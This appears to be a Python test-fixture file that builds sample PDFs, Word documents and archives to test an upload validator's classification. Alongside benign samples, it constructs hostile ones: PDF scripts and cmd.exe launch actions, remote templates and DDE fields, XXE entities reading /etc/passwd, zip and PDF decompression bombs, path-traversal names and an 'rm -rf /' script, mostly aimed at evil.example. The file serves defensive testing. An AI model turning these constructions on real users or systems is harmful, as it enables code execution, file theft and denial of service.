"""Files to try the door with, made here: nothing hostile lies in the repository. Each with the word it must get."""

import io
import os
import struct
import zipfile
import zlib

import pikepdf
from pikepdf import Array, Dictionary, Name, String

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"

# --- PDF ------------------------------------------------------------------------------------------------------------


def pdf(change=None, pages=1, **saving):
    """A small PDF with a line of text, after `change(document)`."""
    document = pikepdf.new()
    for number in range(pages):
        page = document.add_blank_page(page_size=(595, 842))
        page.Contents = document.make_stream(b"BT /F1 24 Tf 60 760 Td (Submission, page %d) Tj ET" % (number + 1))
        font = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
        page.Resources = Dictionary(Font=Dictionary(F1=font))
    if change:
        change(document)
    target = io.BytesIO()
    document.save(target, **saving)
    return target.getvalue()


OLD_LOCK = pikepdf.Encryption(user="", owner="b", R=3, aes=False, metadata=False)


def on_opening(action):
    return lambda document: document.Root.__setitem__("/OpenAction", action)


def on_page(action):
    return lambda document: document.pages[0].obj.__setitem__("/AA", Dictionary(O=action))


def annotation(**facts):
    facts = {"Type": Name.Annot, "Rect": [0, 0, 9, 9], **facts}
    return lambda document: document.pages[0].obj.__setitem__("/Annots", Array([Dictionary(**facts)]))


def hidden_script(document):
    """Deep inside direct objects, where only a full search finds it."""
    document.Root.PieceInfo = Dictionary(
        A=Array([Array([Dictionary(B=Dictionary(S=Name.JavaScript, JS=String("1")))])])
    )


def attachment(document):
    document.attachments["payroll.xlsx"] = b"PK\x03\x04 whatever"


def named_script(document):
    script = document.make_indirect(Dictionary(S=Name.JavaScript, JS=String("app.alert(1)")))
    document.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), script])))


def external_content(document):
    document.pages[0].Contents = document.make_stream(b"", {"/F": String("\\\\evil.example\\share\\page")})


# --- Word -----------------------------------------------------------------------------------------------------------


def relationship(kind, target, mode="External", number=1):
    return f'<Relationship Id="r{number}" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="{mode}"/>'


def field(code):
    return (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        + "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in code)
        + '<w:r><w:fldChar w:fldCharType="separate"/><w:t>1</w:t><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def docx(*, links="", types="", body="", main=MAIN, head="", parts=(), compression=zipfile.ZIP_DEFLATED, change=None):
    """A small Word document, with what is asked for put in."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", compression) as archive:
        archive.writestr(
            "[Content_Types].xml",
            '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            f'<Override PartName="/word/document.xml" ContentType="{main}"/>{types}</Types>',
        )
        archive.writestr("_rels/.rels", relationships(relationship("officeDocument", "word/document.xml", "Internal")))
        archive.writestr(
            "word/document.xml",
            f'<?xml version="1.0"?>{head}<w:document xmlns:w="{WORD}"><w:body>'
            f"<w:p><w:r><w:t>Submission</w:t></w:r></w:p>{body}</w:body></w:document>",
        )
        archive.writestr("word/_rels/document.xml.rels", relationships(links))
        for name, content in parts:
            archive.writestr(name, content)
        if change:
            change(archive)
    return target.getvalue()


def relationships(inside):
    space = "http://schemas.openxmlformats.org/package/2006/relationships"
    return f'<?xml version="1.0"?><Relationships xmlns="{space}">{inside}</Relationships>'


def archive_of(**entries):
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        for name, content in entries.items():
            archive.writestr(name, content)
    return target.getvalue()


def symlink(archive):
    entry = zipfile.ZipInfo("word/media/image1.png")
    entry.external_attr = 0o120777 << 16
    archive.writestr(entry, "/etc/passwd")


def marked_encrypted(data):
    """The flag of encryption in each entry of the directory."""
    return data.replace(b"PK\x01\x02\x14\x03\x14\x00\x00\x00", b"PK\x01\x02\x14\x03\x14\x00\x01\x00")


def lying(announced, real):
    """One entry that says it is `announced` bytes long and unpacks to `real`; its checksum fits the shorter one."""
    name = b"word/media/image1.png"
    engine = zlib.compressobj(9, zlib.DEFLATED, -15)
    content = os.urandom(real)
    packed = engine.compress(content) + engine.flush()
    checksum = zlib.crc32(content[:announced])
    data = docx()
    directory = data.index(b"PK\x01\x02")
    end = data.index(b"PK\x05\x06")
    local = (
        struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, 8, 0, 33, checksum, len(packed), announced, len(name), 0) + name
    )
    central = struct.pack(
        "<4s6H3L5H2L",
        b"PK\x01\x02",
        20,
        20,
        0,
        8,
        0,
        33,
        checksum,
        len(packed),
        announced,
        len(name),
        0,
        0,
        0,
        0,
        0,
        directory,
    )
    count = struct.unpack("<H", data[end + 10 : end + 12])[0] + 1
    entries = data[directory:end] + central + name
    place = directory + len(local) + len(packed)
    closing = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count, count, len(entries), place, 0)
    return data[:directory] + local + packed + entries + closing


def overlapping(times=300):
    """Many directory entries that all point at the same packed bytes (after D. Fifield)."""
    name = b"word/media/image1.png"
    content = os.urandom(4096) * 20
    engine = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = engine.compress(content) + engine.flush()
    facts = (0, 8, 0, 33, zlib.crc32(content), len(packed), len(content), len(name))
    data = docx()
    directory, end = data.index(b"PK\x01\x02"), data.index(b"PK\x05\x06")
    local = struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, *facts, 0) + name
    central = b"".join(
        struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, *facts, 0, 0, 0, 0, 0, directory)
        + name.replace(b"image1", b"%06d" % n)
        for n in range(times)
    )
    count = struct.unpack("<H", data[end + 10 : end + 12])[0] + times
    entries = data[directory:end] + central
    closing = struct.pack(
        "<4s4H2LH", b"PK\x05\x06", 0, 0, count, count, len(entries), directory + len(local) + len(packed), 0
    )
    return data[:directory] + local + packed + entries + closing


def laughs():
    entities = "".join(f'<!ENTITY l{n + 1} "{f"&l{n};" * 10}">' for n in range(9))
    return docx(head=f'<!DOCTYPE w [<!ENTITY l0 "ha">{entities}]>', body="<w:p><w:r><w:t>&l9;</w:t></w:r></w:p>")


def pdf_bomb(size=600 * 1024 * 1024):
    """An object stream that unpacks to `size` zeros: reading the table of objects alone fills the memory."""
    engine = zlib.compressobj(1)
    packed = b"".join(engine.compress(bytes(1024 * 1024)) for _ in range(size // 1024 // 1024)) + engine.flush()
    whole = b"%PDF-1.5\n"
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [5 0 R] /Count 1 >>",
        3: b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream"
        % (len(packed), packed),
    }
    places = {}
    for number, content in objects.items():
        places[number] = len(whole)
        whole += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    start = len(whole)
    rows = [(0, 0, 255), *((1, places[n], 0) for n in (1, 2, 3)), (1, start, 0), (2, 3, 0)]
    table = b"".join(struct.pack(">BIB", *row) for row in rows)
    whole += (
        b"4 0 obj\n<< /Type /XRef /Size 6 /W [1 4 1] /Root 1 0 R /Length %d >>\nstream\n%s\nendstream\nendobj\n"
        % (len(table), table)
    )
    return whole + b"startxref\n%d\n%%%%EOF\n" % start


SAMPLES = [
    # what must pass
    ("a PDF", "submission.pdf", pdf, "pdf"),
    (
        "a PDF with its objects in streams",
        "submission.pdf",
        lambda: pdf(pages=40, object_stream_mode=pikepdf.ObjectStreamMode.generate),
        "pdf",
    ),
    ("a PDF in capitals", "SUBMISSION.PDF", pdf, "pdf"),
    ("a PDF without an ending, as phones send it", "document", pdf, "pdf"),
    ("a PDF after a line of a mail program", "submission.pdf", lambda: b"\r\n" * 9 + pdf(), "pdf"),
    (
        "a PDF with a web link",
        "links.pdf",
        lambda: pdf(annotation(Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("https://example.org")))),
        "pdf",
    ),
    (
        "a PDF that opens at page one",
        "goto.pdf",
        lambda: pdf(on_opening(Dictionary(S=Name.GoTo, D=Array([0, Name.Fit])))),
        "pdf",
    ),
    ("a PDF with words after its end", "tail.pdf", lambda: pdf() + b"\n\n", "pdf"),
    ("a Word document", "submission.docx", docx, "docx"),
    (
        "a Word document with web links",
        "links.docx",
        lambda: docx(
            links=relationship("hyperlink", "https://example.org/?a=1")
            + relationship("hyperlink", "mailto:info@example.org", number=2)
        ),
        "docx",
    ),
    (
        "a Word document with a picture",
        "picture.docx",
        lambda: docx(parts=[("word/media/image1.png", b"\x89PNG" + os.urandom(5000))]),
        "docx",
    ),
    (
        "a Word document with page numbers and contents",
        "fields.docx",
        lambda: docx(
            body=field([" PAGE "]) + field([" TOC ", "\\o 1-3"]) + field([' HYPERLINK "https://example.org/DDE" '])
        ),
        "docx",
    ),
    ("a Word document stored unpacked", "stored.docx", lambda: docx(compression=zipfile.ZIP_STORED), "docx"),
    # nothing, not enough, too much
    ("nothing", "empty.pdf", lambda: b"", "empty"),
    ("half a Word document", "half.docx", lambda: docx()[:700], "unreadable"),
    ("a PDF that ends after its first line", "short.pdf", lambda: b"%PDF-1.7\n", "unreadable"),
    ("a PDF without a page", "none.pdf", lambda: pdf(pages=0), "unreadable"),
    ("noise called a PDF", "noise.pdf", lambda: b"%PDF-1.7\n" + os.urandom(50_000), "unreadable"),
    ("noise", "noise.docx", lambda: b"\x01\x02" + os.urandom(50_000), "unknown_kind"),
    ("plain words", "words.pdf", lambda: b"Dear Sir or Madam, " * 50, "unknown_kind"),
    # another kind, or another name
    ("a PDF called Word", "submission.docx", pdf, "wrong_name"),
    ("a Word document called PDF", "submission.pdf", docx, "wrong_name"),
    ("a PDF called a program", "submission.pdf.exe", pdf, "wrong_name"),
    ("a Word document called one with macros", "submission.docm", docx, "wrong_name"),
    ("an old Word document", "submission.doc", lambda: OLE + bytes(2000), "word_old"),
    ("an old Word document called new", "submission.docx", lambda: OLE + bytes(2000), "word_old"),
    (
        "an OpenDocument text",
        "submission.odt",
        lambda: archive_of(**{"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "<a/>"}),
        "odt",
    ),
    ("an Apple Pages document", "submission.pages", lambda: archive_of(**{"Index/Document.iwa": "a"}), "pages"),
    ("Rich Text", "submission.rtf", lambda: b"{\\rtf1 Hello}", "rtf"),
    (
        "a web page called PDF",
        "submission.pdf",
        lambda: b"<!DOCTYPE html><script>fetch('//evil.example')</script>",
        "html",
    ),
    (
        "an SVG called PDF",
        "submission.pdf",
        lambda: b"\xef\xbb\xbf<svg xmlns='http://www.w3.org/2000/svg' onload='x()'/>",
        "html",
    ),
    ("a Windows program called PDF", "submission.pdf", lambda: b"MZ" + os.urandom(4000), "program"),
    ("a Linux program called Word", "submission.docx", lambda: b"\x7fELF" + os.urandom(4000), "program"),
    ("a shell script", "submission.pdf", lambda: b"#!/bin/sh\nrm -rf /\n", "program"),
    ("a photograph", "IMG_0001.jpg", lambda: b"\xff\xd8\xff\xe0" + os.urandom(4000), "image"),
    ("an iPhone photograph called PDF", "scan.pdf", lambda: b"\0\0\0\x18ftypheic" + os.urandom(400), "image"),
    ("an archive", "papers.zip", lambda: archive_of(**{"a.pdf": pdf()}), "archive"),
    ("another archive", "papers.rar", lambda: b"Rar!\x1a\x07\x01\0" + os.urandom(400), "archive"),
    (
        "a spreadsheet",
        "table.xlsx",
        lambda: docx(
            main="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
            parts=[("xl/workbook.xml", "<a/>")],
        ),
        "other_office",
    ),
    ("a PDF that is also an archive", "both.pdf", lambda: pdf() + archive_of(a="b"), "two_kinds"),
    ("a PDF behind a program's head", "both.pdf", lambda: b"MZ" + bytes(100) + pdf(), "two_kinds"),
    ("a PDF behind a web page", "both.pdf", lambda: b"<html><script>x()</script>" + pdf(), "two_kinds"),
    ("an archive behind a PDF's head", "both.docx", lambda: b"%PDF-1.7\n" + docx(), "two_kinds"),
    # PDFs that act
    (
        "a PDF with a password",
        "locked.pdf",
        lambda: pdf(encryption=pikepdf.Encryption(user="a", owner="b")),
        "pdf_password",
    ),
    (
        "a PDF with restrictions only",
        "locked.pdf",
        lambda: pdf(encryption=pikepdf.Encryption(user="", owner="b")),
        "pdf_password",
    ),
    ("a PDF locked in the old way", "locked.pdf", lambda: pdf(encryption=OLD_LOCK), "pdf_password"),
    (
        "a script on opening",
        "active.pdf",
        lambda: pdf(on_opening(Dictionary(S=Name.JavaScript, JS=String("app.alert(1)")))),
        "pdf_script",
    ),
    ("a script by name", "active.pdf", lambda: pdf(named_script), "pdf_script"),
    ("a script hidden deep inside", "active.pdf", lambda: pdf(hidden_script), "pdf_script"),
    (
        "a script in a packed object",
        "active.pdf",
        lambda: pdf(named_script, object_stream_mode=pikepdf.ObjectStreamMode.generate),
        "pdf_script",
    ),
    (
        "a program started on opening",
        "active.pdf",
        lambda: pdf(on_opening(Dictionary(S=Name.Launch, F=String("cmd.exe")))),
        "pdf_action",
    ),
    (
        "a program started by a click",
        "active.pdf",
        lambda: pdf(annotation(Subtype=Name.Link, A=Dictionary(S=Name.Launch, F=String("cmd.exe")))),
        "pdf_action",
    ),
    (
        "an address called on opening",
        "active.pdf",
        lambda: pdf(on_opening(Dictionary(S=Name.URI, URI=String("https://evil.example")))),
        "pdf_action",
    ),
    (
        "an address called by turning a page",
        "active.pdf",
        lambda: pdf(on_page(Dictionary(S=Name.URI, URI=String("https://evil.example")))),
        "pdf_action",
    ),
    (
        "a share of the network opened on opening",
        "active.pdf",
        lambda: pdf(on_opening(Dictionary(S=Name.GoToR, F=String("//evil.example/a")))),
        "pdf_action",
    ),
    (
        "a form that sends itself",
        "active.pdf",
        lambda: pdf(annotation(Subtype=Name.Link, A=Dictionary(S=Name.SubmitForm, F=String("https://evil.example")))),
        "pdf_action",
    ),
    ("content from elsewhere", "active.pdf", lambda: pdf(external_content), "pdf_action"),
    (
        "an XFA form",
        "form.pdf",
        lambda: pdf(lambda document: document.Root.__setitem__("/AcroForm", Dictionary(XFA=Array([])))),
        "pdf_form",
    ),
    ("a file inside", "carrier.pdf", lambda: pdf(attachment), "pdf_attachment"),
    (
        "a file pinned to the page",
        "carrier.pdf",
        lambda: pdf(annotation(Subtype=Name.FileAttachment, FS=Dictionary(F=String("a")))),
        "pdf_attachment",
    ),
    ("a film", "film.pdf", lambda: pdf(annotation(Subtype=Name.RichMedia)), "pdf_media"),
    # Word documents that act
    (
        "a Word document with a password",
        "locked.docx",
        lambda: OLE + "EncryptedPackage".encode("utf-16-le") + bytes(900),
        "word_password",
    ),
    ("macros", "macros.docx", lambda: docx(parts=[("word/vbaProject.bin", OLE)]), "word_macros"),
    (
        "macros under another name",
        "macros.docx",
        lambda: docx(
            parts=[("word/theme.dat", "x")],
            types='<Override PartName="/word/theme.dat" ContentType="application/vnd.ms-office.vbaProject"/>',
        ),
        "word_macros",
    ),
    (
        "a macro document called Word",
        "macros.docx",
        lambda: docx(main="application/vnd.ms-word.document.macroEnabled.main+xml"),
        "word_macros",
    ),
    (
        "a template from elsewhere",
        "linked.docx",
        lambda: docx(links=relationship("attachedTemplate", "https://evil.example/t.dotm")),
        "word_linked",
    ),
    (
        "a picture from elsewhere",
        "linked.docx",
        lambda: docx(links=relationship("image", "https://evil.example/pixel.png")),
        "word_linked",
    ),
    (
        "a picture from a share",
        "linked.docx",
        lambda: docx(links=relationship("image", "file://evil.example/pixel.png")),
        "word_linked",
    ),
    (
        "an object from elsewhere",
        "linked.docx",
        lambda: docx(links=relationship("oleObject", "mhtml:https://evil.example/x!x-usc:")),
        "word_linked",
    ),
    (
        "a frame from elsewhere",
        "linked.docx",
        lambda: docx(links=relationship("frame", "https://evil.example/")),
        "word_linked",
    ),
    (
        "a link that starts a program",
        "linked.docx",
        lambda: docx(links=relationship("hyperlink", "ms-msdt:/id")),
        "word_linked",
    ),
    (
        "a link to a share",
        "linked.docx",
        lambda: docx(links=relationship("hyperlink", "\\\\evil.example\\a")),
        "word_linked",
    ),
    (
        "a field that talks to programs",
        "fields.docx",
        lambda: docx(body=field([" DDE", "AUTO c:\\\\cmd.exe"])),
        "word_fields",
    ),
    (
        "a field that fetches a picture",
        "fields.docx",
        lambda: docx(body='<w:fldSimple w:instr=" includepicture &quot;https://evil.example&quot;"/>'),
        "word_fields",
    ),
    (
        "an object inside",
        "embedded.docx",
        lambda: docx(
            links=relationship("oleObject", "embeddings/o.bin", "Internal"), parts=[("word/embeddings/o.bin", "x")]
        ),
        "word_embedded",
    ),
    (
        "an object inside, unannounced",
        "embedded.docx",
        lambda: docx(parts=[("word/media/image1.png", OLE)]),
        "word_embedded",
    ),
    (
        "a control inside",
        "embedded.docx",
        lambda: docx(links=relationship("control", "activeX/a.xml", "Internal")),
        "word_embedded",
    ),
    (
        "an archive inside",
        "embedded.docx",
        lambda: docx(parts=[("word/embeddings/table.xlsx", docx())]),
        "word_embedded",
    ),
    (
        "a web page inside",
        "embedded.docx",
        lambda: docx(links=relationship("aFChunk", "chunk.html", "Internal")),
        "word_embedded",
    ),
    # archives made to hurt
    ("an encrypted archive", "locked.docx", lambda: marked_encrypted(docx()), "archive_password"),
    ("too many entries", "bomb.docx", lambda: docx(parts=[(f"word/media/{n}.png", "x") for n in range(2000)]), "bomb"),
    (
        "an entry that unpacks a thousandfold",
        "bomb.docx",
        lambda: docx(parts=[("word/media/image1.png", bytes(50_000_000))]),
        "bomb",
    ),
    ("an entry that lies about its size", "bomb.docx", lambda: lying(announced=9000, real=500_000), "bomb"),
    ("an entry that is shorter than it says", "bomb.docx", lambda: lying(announced=9000, real=8000), "unreadable"),
    ("entries that share their bytes", "bomb.docx", overlapping, "bomb"),
    ("a name that climbs out", "climb.docx", lambda: docx(parts=[("../../etc/cron.d/x", "x")]), "unreadable"),
    ("a name from the root", "climb.docx", lambda: docx(parts=[("/etc/cron.d/x", "x")]), "unreadable"),
    ("a name of Windows", "climb.docx", lambda: docx(parts=[("word\\..\\..\\x", "x")]), "unreadable"),
    ("the same name twice", "twice.docx", lambda: docx(parts=[("WORD/document.xml", "<a/>")]), "unreadable"),
    ("a link out of the archive", "link.docx", lambda: docx(change=symlink), "unreadable"),
    ("entities that multiply", "laughs.docx", laughs, "unreadable"),
    (
        "a type that lies elsewhere",
        "dtd.docx",
        lambda: docx(head='<!DOCTYPE w SYSTEM "//evil.example/">'),
        "unreadable",
    ),
    (
        "an entity that reads a file",
        "xxe.docx",
        lambda: docx(head='<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>', body="<w:p>&x;</w:p>"),
        "unreadable",
    ),
    (
        "an entity in another alphabet",
        "xxe.docx",
        lambda: docx(
            parts=[
                (
                    "word/styles.xml",
                    '<?xml version="1.0" encoding="utf-16"?><!DOCTYPE w [<!ENTITY x SYSTEM "http://evil.example/">]><w/>'.encode(
                        "utf-16"
                    ),
                )
            ]
        ),
        "unreadable",
    ),
    ("broken XML", "broken.docx", lambda: docx(body="<w:p>"), "unreadable"),
    ("a PDF that fills the memory", "bomb.pdf", pdf_bomb, "unreadable"),
]
